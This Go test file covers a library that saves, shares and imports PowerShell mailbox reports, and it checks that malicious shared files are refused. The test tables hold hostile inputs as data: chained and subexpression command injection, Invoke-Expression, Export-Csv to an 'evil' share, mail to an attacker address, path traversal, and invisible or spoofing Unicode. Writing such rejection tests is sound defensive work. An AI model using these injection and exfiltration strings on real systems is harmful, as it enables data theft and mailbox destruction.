package report_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"postroom/assets"
	"postroom/session/report"
	"postroom/session/result"
)

func library(t *testing.T) (*report.Library, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "config", "reports.json")
	catalogue, err := report.ReadCatalogue(assets.Reports(), assets.Packs())
	if err != nil {
		t.Fatal(err)
	}
	return report.NewLibrary(path, catalogue), path
}

var mine = report.Report{
	Name: "mine", Title: report.Text{En: "My own"}, Steps: []report.Step{{Run: "Get-Mailbox -ResultSize Unlimited"}},
	Shape: report.Shape{Columns: []report.Column{{Name: "DisplayName"}}, Keep: "DisplayName begins 'a'"},
}

func named(list []report.Report, name string) (report.Report, bool) {
	i := slices.IndexFunc(list, func(r report.Report) bool { return r.Name == name })
	if i < 0 {
		return report.Report{}, false
	}
	return list[i], true
}

func TestLibrary(t *testing.T) {
	l, path := library(t)
	if err := l.Save(t.Context(), mine, report.New); err != nil {
		t.Fatal(err)
	}
	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("%v, %v", info, err)
	}
	list, err := l.Reports()
	if r, ok := named(list, "mine"); err != nil || !ok || !r.Own || r.Keep != mine.Keep || list[len(list)-1].Name != "mine" {
		t.Errorf("%v, %+v", err, r)
	}
	for name, c := range map[string]struct {
		do   func() error
		want error
	}{
		"the same name":         {func() error { return l.Save(t.Context(), mine, report.New) }, report.ErrTaken},
		"a name of the others":  {func() error { r := mine; r.Name = "mailbox-sizes"; return l.Save(t.Context(), r, report.Replace) }, report.ErrTaken},
		"what is not there":     {func() error { return l.Remove(t.Context(), "nothing") }, report.ErrNotOwn},
		"what is not one's own": {func() error { return l.Remove(t.Context(), "mailbox-sizes") }, report.ErrNotOwn},
		"replaced":              {func() error { r := mine; r.Keep = ""; return l.Save(t.Context(), r, report.Replace) }, nil},
	} {
		if err := c.do(); !errors.Is(err, c.want) {
			t.Errorf("%s: %v, want %v", name, err, c.want)
		}
	}
	if free, err := l.Free("Größte Postfächer!"); free != "groesste-postfaecher" || err != nil {
		t.Errorf("%q, %v", free, err)
	}
	if free, err := l.Free("mine"); free != "mine-2" || err != nil {
		t.Errorf("%q, %v", free, err)
	}
	changes := mine
	changes.Name, changes.Steps = "changes", []report.Step{{Run: "Get-Mailbox"}, {Run: "Set-Mailbox -Identity {Guid} -CustomAttribute1 x", How: report.Each}}
	var may *report.ChangesError
	if err := l.Save(t.Context(), changes, report.New); !errors.As(err, &may) || len(may.Commands) != 1 || !strings.HasPrefix(may.Commands[0], "Set-Mailbox") {
		t.Errorf("a report that changes something: %v", err)
	}
	changes.Allowed = true
	if err := l.Save(t.Context(), changes, report.New); err != nil {
		t.Error(err)
	}
	list, _ = l.Reports()
	if r, ok := named(list, "changes"); !ok || !r.Allowed || r.Reads() {
		t.Errorf("%+v", r)
	}
	// What somebody wrote into the file without the permission is left out and told.
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(strings.ReplaceAll(string(raw), `"allowed": true`, `"allowed": false`)), 0o600); err != nil {
		t.Fatal(err)
	}
	list, err = l.Reports()
	if _, there := named(list, "changes"); there || !errors.As(err, &may) {
		t.Errorf("%t, %v", there, err)
	}
	if _, there := named(list, "mine"); !there {
		t.Error("the others went with it")
	}
	if err := l.Remove(t.Context(), "mine"); err != nil {
		t.Error(err)
	}
}

// What is shared comes back as it was, with the reports that a pack needs.
func TestShareAndImport(t *testing.T) {
	l, _ := library(t)
	pack := report.Pack{Name: "my-pack", Title: report.Text{En: "My pack"}, Parts: []report.Part{{Report: "mine", Columns: []string{"DisplayName"}}, {Report: "mailbox-list"}}}
	if err := errors.Join(l.Save(t.Context(), mine, report.New), l.SavePack(t.Context(), pack, report.New)); err != nil {
		t.Fatal(err)
	}
	file, err := l.Share("my-pack")
	if err != nil {
		t.Fatal(err)
	}
	s, err := report.ReadShared(file)
	if err != nil || len(s.Reports) != 1 || len(s.Packs) != 1 {
		t.Fatalf("%v\n%s", err, file)
	}
	review, err := l.Review(s, "en")
	if err != nil || review[0].As != "mine-2" || !slices.Equal(review[0].Commands, []string{"Get-Mailbox -ResultSize Unlimited"}) || review[1].As != "my-pack-2" {
		t.Errorf("%+v, %v", review, err)
	}
	names, err := l.Import(t.Context(), s, report.ReadingOnly)
	if err != nil || !slices.Equal(names, []string{"mine-2", "my-pack-2"}) {
		t.Fatalf("%q, %v", names, err)
	}
	packs, err := l.Packs()
	if last := packs[len(packs)-1]; err != nil || last.Name != "my-pack-2" || last.Title.En != "My pack (2)" || last.Parts[0].Report != "mine-2" || !last.Own {
		t.Errorf("%+v, %v", last, err)
	}
	other, _ := library(t)
	if names, err = other.Import(t.Context(), s, report.ReadingOnly); err != nil || names[0] != "mine" {
		t.Errorf("%q, %v", names, err)
	}
	if packs, err = other.Packs(); err != nil || packs[len(packs)-1].Title.En != "My pack" {
		t.Errorf("%+v, %v", packs[len(packs)-1], err)
	}
	if _, err := l.Share("nothing"); !errors.Is(err, report.ErrNotOwn) {
		t.Error(err)
	}
}

// shared is a file of one report, with its steps.
func shared(more string, steps ...string) []byte {
	for i, s := range steps {
		b, _ := json.Marshal(s)
		steps[i] = `{"run": ` + string(b) + `}`
		if i > 0 {
			steps[i] = `{"run": ` + string(b) + `, "how": "each"}`
		}
	}
	if len(steps) == 0 {
		steps = []string{`{"run": "Get-Mailbox"}`}
	}
	return fmt.Appendf(nil, `{"version": 1, "reports": [{"name": "x", "title": {"en": "X"}, "steps": [%s], "columns": [{"name": "Name"}]%s}]}`, strings.Join(steps, ","), more)
}

// A file that somebody made to do harm is refused, and nothing of it is kept.
func TestMaliciousFilesAreRefused(t *testing.T) {
	if _, err := report.ReadShared(shared("")); err != nil {
		t.Fatalf("a good one: %v", err)
	}
	deep := strings.Repeat("(", 60) + "Name" + strings.Repeat(")", 60)
	for name, file := range map[string][]byte{
		"no JSON":                  []byte("Get-Mailbox"),
		"not UTF-8":                []byte("{\"version\": 1, \"reports\": [{\"name\": \"\xff\"}]}"),
		"nothing in it":            []byte(`{"version": 1}`),
		"no version":               []byte(`{"reports": []}`),
		"a newer version":          []byte(`{"version": 99, "reports": [{"name": "x"}]}`),
		"an unknown field":         shared(`, "script": "calc.exe"`),
		"more behind it":           append(shared(""), []byte("{}")...),
		"huge":                     append(shared(""), []byte(strings.Repeat(" ", report.MostShared))...),
		"a huge text":              shared(`, "caveat": {"en": "` + strings.Repeat("a", 5000) + `"}`),
		"nested without end":       []byte(`{"version": 1, "reports": ` + strings.Repeat("[", 100_000)),
		"a name that is a path":    []byte(strings.Replace(string(shared("")), `"name": "x"`, `"name": "../../x"`, 1)),
		"a turned title":           shared(`, "caveat": {"en": "safe \u202egnp.exe"}`),
		"no width":                 shared(`, "caveat": {"en": "Get\u200b-Mailbox"}`),
		"a control":                shared(`, "caveat": {"en": "a\u001b]0;x\u0007"}`),
		"a line break":             shared(`, "caveat": {"en": "a\nRead only: yes"}`),
		"a private character":      shared(`, "caveat": {"en": "\ue000"}`),
		"a blank letter":           shared(`, "caveat": {"en": "\u3164"}`),
		"a tag":                    shared(`, "caveat": {"en": "\udb40\udc41"}`),
		"a look-alike":             shared("", "Gеt-Mailbox"), // a Cyrillic letter
		"a cmdlet of a module":     shared("", `evil\Get-Mailbox`),
		"a script block":           shared("", "Get-Mailbox | ForEach-Object { Remove-Mailbox $_ }"),
		"a block as a value":       shared("", "Get-Mailbox -Filter { Name -eq 'x'; Remove-Mailbox y }"),
		"a subexpression":          shared("", "Get-Mailbox -Identity $(Remove-Mailbox x)"),
		"a call":                   shared("", "& Remove-Mailbox x"),
		"a second statement":       shared("", "Get-Mailbox; Remove-Mailbox x"),
		"a variable":               shared("", "Get-Mailbox -Identity $env:USERNAME"),
		"a redirection":            shared("", "Get-Mailbox > C:\\x"),
		"a program":                shared("", "calc.exe"),
		"Invoke-Expression":        shared("", "Invoke-Expression 'Remove-Mailbox x'"),
		"Export-Csv":               shared("", "Get-Mailbox | Export-Csv \\\\evil\\x.csv"),
		"a step of a row's":        shared("", "Get-Mailbox", "{Name}"),
		"a deep expression":        shared(`, "keep": "` + deep + `"`),
		"a long expression":        shared(`, "keep": "` + strings.Repeat("Name + ", 600) + `Name"`),
		"an unknown function":      shared(`, "keep": "exec('x')"`),
		"too many steps":           shared("", slices.Repeat([]string{"Get-Mailbox -Identity {Guid}"}, 12)...),
		"too many marks":           shared(`, "marks": [` + strings.TrimSuffix(strings.Repeat(`{"column": "Name", "when": "true", "text": {"en": "x"}},`, 60), ",") + `]`),
		"an answer as a parameter": shared(`, "questions": [{"name": "v", "kind": "text"}]`, "Get-Mailbox -{?v} x"),
		"an answer as a cmdlet":    shared(`, "questions": [{"name": "v", "kind": "text"}]`, "Get-Mailbox", "{?v}-Mailbox"),
		"a blank title":            []byte(strings.Replace(string(shared("")), `"title": {"en": "`, `"title": {"en": "  ", "de": "`, 1)),
		"a permission of its own":  shared(`, "allowed": true`, "Remove-Mailbox x"),
		"a dash of another kind":   shared("", "Remove–Mailbox x"),
		"half a character":         shared(`, "caveat": {"en": "\ud800"}`),
		"a member that is called":  shared("", "Get-Mailbox | ForEach-Object -MemberName Delete"),
		"a backtick":               shared("", "Get-Mailbox -Identity a`nRemove-Mailbox"),
		"variants that hide":       shared(`, "variants": [{"services": ["EXO"], "steps": [], "columns": []}]`),
		"a pack of nothing":        []byte(`{"version": 1, "packs": [{"name": "p", "title": {"en": "P"}, "parts": []}]}`),
	} {
		t.Run(name, func(t *testing.T) {
			s, err := report.ReadShared(file)
			var format *report.FormatError
			if !errors.As(err, &format) {
				t.Errorf("%+v, %v", s, err)
			}
		})
	}
}

// All that comes with the program could be shared.
func TestTheCatalogueCanBeShared(t *testing.T) {
	l, _ := library(t)
	reports, err := l.Reports()
	packs, packErr := l.Packs()
	if err != nil || packErr != nil || len(packs) < 4 {
		t.Fatal(err, packErr)
	}
	for _, r := range reports {
		file, err := l.Share(r.Name)
		if err != nil {
			t.Fatal(err)
		}
		if s, err := report.ReadShared(file); err != nil || s.Reports[0].Name != r.Name || !s.Reports[0].Reads() {
			t.Errorf("%s: %v", r.Name, err)
		}
	}
	for _, p := range packs {
		for _, part := range p.Parts {
			if _, ok := named(reports, part.Report); !ok {
				t.Errorf("the pack %s has no report %s", p.Name, part.Report)
			}
		}
	}
}

// A report that would change something is refused unless that is permitted, also
// where only a variant does, or a verb that sounds like reading.
func TestChangesAreRefused(t *testing.T) {
	for name, file := range map[string][]byte{
		"a step":       shared("", "Get-Mailbox", "Remove-Mailbox -Identity {Guid} -Confirm:$false"),
		"a variant":    shared(`, "variants": [{"services": ["EXO"], "steps": [{"run": "Set-Mailbox -Identity x"}], "columns": [{"name": "Name"}]}]`),
		"a pipeline":   shared("", "Get-Mailbox | Disable-Mailbox"),
		"deletes":      shared("", "Search-Mailbox -Identity x -DeleteContent"),
		"unknown verb": shared("", "Frob-Mailbox"),
		"sends a mail": shared("", "Test-MailFlow -TargetEmailAddress x@evil.example"),
		"another case": shared("", "get-mailbox", "rEMOVE-mailbox -Identity {Guid}"),
		"said twice":   []byte(strings.Replace(string(shared("")), `"columns"`, `"Steps": [{"run": "Remove-Mailbox x"}], "columns"`, 1)),
	} {
		t.Run(name, func(t *testing.T) {
			l, path := library(t)
			s, err := report.ReadShared(file)
			if err != nil {
				t.Fatal(err)
			}
			review, err := l.Review(s, "en")
			if err != nil || len(review[0].Changing) != 1 {
				t.Errorf("%+v, %v", review, err)
			}
			var changes *report.ChangesError
			if _, err := l.Import(t.Context(), s, report.ReadingOnly); !errors.As(err, &changes) {
				t.Error(err)
			}
			if _, err := os.Stat(path); err == nil {
				t.Error("something was written")
			}
			if names, err := l.Import(t.Context(), s, report.AlsoChanges); err != nil || len(names) != 1 {
				t.Errorf("%q, %v", names, err)
			}
		})
	}
}

// Expressions that double what they compute end at a bound, and a list of all
// values beside another does not take for ever.
func TestExpressionsAreBounded(t *testing.T) {
	doubling := report.Report{Name: "x", Steps: []report.Step{{Run: "Get-It"}}}
	doubling.Columns = []report.Column{{Name: "C0", Value: "'0123456789'"}, {Name: "L0", Value: "['a', 'b']"}}
	for i := range 90 {
		doubling.Columns = append(doubling.Columns,
			report.Column{Name: fmt.Sprintf("C%d", i+1), Value: fmt.Sprintf("C%d + C%d", i, i)},
			report.Column{Name: fmt.Sprintf("L%d", i+1), Value: fmt.Sprintf("[L%d, L%d]", i, i)})
	}
	doubling.Keep = "not (L18 has L17) or L16 in L17 or like('" + strings.Repeat("a", 500) + "', '" + strings.Repeat("a*", 400) + "b')"
	got := run(t, doubling, report.Options{}, map[string][]map[string]any{"Get-It": {{"Name": "n"}}})
	v := got.table.Snapshot()
	longest := 0
	rows, cols := v.Size()
	for row := range rows {
		for col := range cols {
			longest = max(longest, len(v.Cell(row, col)))
		}
	}
	if longest > 2<<20 || got.err != nil {
		t.Errorf("%d characters, %v", longest, got.err)
	}
}

// What the columns are chosen to be, with those that others are computed from
// left out, is what the report gives.
func TestChosenColumns(t *testing.T) {
	list, err := report.Load(assets.Reports())
	if err != nil {
		t.Fatal(err)
	}
	sizes, _ := named(list, "mailbox-sizes")
	plan, err := sizes.Chosen([]string{"PercentUsed", "DisplayName", "Marks", "Office"}).Plan(report.Options{Service: "EXO", Now: noon})
	if err != nil || !slices.Equal(plan.Columns(), []string{"PercentUsed", "DisplayName", "Office", "Marks"}) {
		t.Errorf("%v, %v", plan.Columns(), err)
	}
	table := result.NewTable(result.Provenance{})
	err = plan.Run(t.Context(), &server{t: t, rows: map[string][]map[string]any{
		"Get-Mailbox":                         {{"DisplayName": "Ada", "ExchangeGuid": "1", "ProhibitSendReceiveQuota": "100 B (100 bytes)", "Office": "Kiel"}},
		"Get-Mailbox | Get-MailboxStatistics": {{"MailboxGuid": "1", "TotalItemSize": "95 B (95 bytes)"}},
	}}, &taken{Builder: table.Builder(), table: table})
	if got := texts(table.Snapshot()); err != nil || !slices.Equal(got, []string{"95|Ada|Kiel|at 90 % of its quota or more"}) {
		t.Errorf("%q, %v", got, err)
	}
}

// A title is what it looks like: characters that cannot be seen are refused, in reports and
// packs of one's own too.
func TestOwnTitlesCanBeSeen(t *testing.T) {
	l, _ := library(t)
	for _, title := range []string{"a\x1b[31mred", "two\nlines", "tab\there", "back\u202ewards", "zero\u200bwidth"} {
		r := mine
		r.Title.En = title
		var format *report.FormatError
		if err := l.Save(t.Context(), r, report.New); !errors.As(err, &format) {
			t.Errorf("%q is taken: %v", title, err)
		}
		if err := l.SavePack(t.Context(), report.Pack{Name: "p", Title: report.Text{De: title}, Parts: []report.Part{{Report: "mailbox-list"}}}, report.New); !errors.As(err, &format) {
			t.Errorf("%q is taken as a pack's: %v", title, err)
		}
		r.Title.En = "Für Ada – 日本"
		if err := l.Save(t.Context(), r, report.Replace); err != nil {
			t.Error(err)
		}
	}
}
